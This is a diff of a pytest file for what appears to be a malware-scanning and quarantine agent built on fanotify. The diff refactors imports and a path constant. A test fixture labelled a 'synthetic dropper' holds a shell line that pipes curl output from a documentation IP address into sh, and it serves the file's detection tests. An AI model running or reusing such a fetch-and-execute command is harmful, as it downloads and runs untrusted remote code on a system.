@@ -17,16 +17,16 @@ from pathlib import Path
 
 import pytest
 
-from agent import fanotify as fan
 from agent.decision import DecisionContext, Mode, Reason, Verdict
 from agent.model import LoadedModel, load_bundle
-from agent.protect import ProtectConfig, Protector, ProtectReport, ReportKind
-from agent.quarantine import Quarantine
-from agent.scan import Scanner, ScanResult
+from agent.protect import fanotify as fan
+from agent.protect.protector import ProtectConfig, Protector, ProtectReport, ReportKind
+from agent.protect.quarantine import Quarantine
+from agent.protect.scan import Scanner, ScanResult
 
 pytestmark = pytest.mark.skipif(not fan.is_available()[0], reason=fan.is_available()[1])
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 NOW = dt.datetime(2026, 11, 1, 12, 0, tzinfo=dt.UTC)
 EVIL = b"#!/bin/sh\n# synthetic dropper\ncurl -s http://203.0.113.9/x | sh\nexit 0\n"
 BENIGN = b"#!/bin/sh\necho hello\nexit 0\n"
@@ -247,8 +247,8 @@ _CHILD = textwrap.dedent(
     import sys, time, datetime as dt
     from agent.decision import DecisionContext
     from agent.model import load_bundle
-    from agent.protect import ProtectConfig, Protector
-    from agent.scan import Scanner
+    from agent.protect.protector import ProtectConfig, Protector
+    from agent.protect.scan import Scanner
     bundle, folder, sha, delay = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
     scanner = Scanner(load_bundle(bundle), DecisionContext(1.1, blocklist=frozenset({sha})))
     def decide(path):
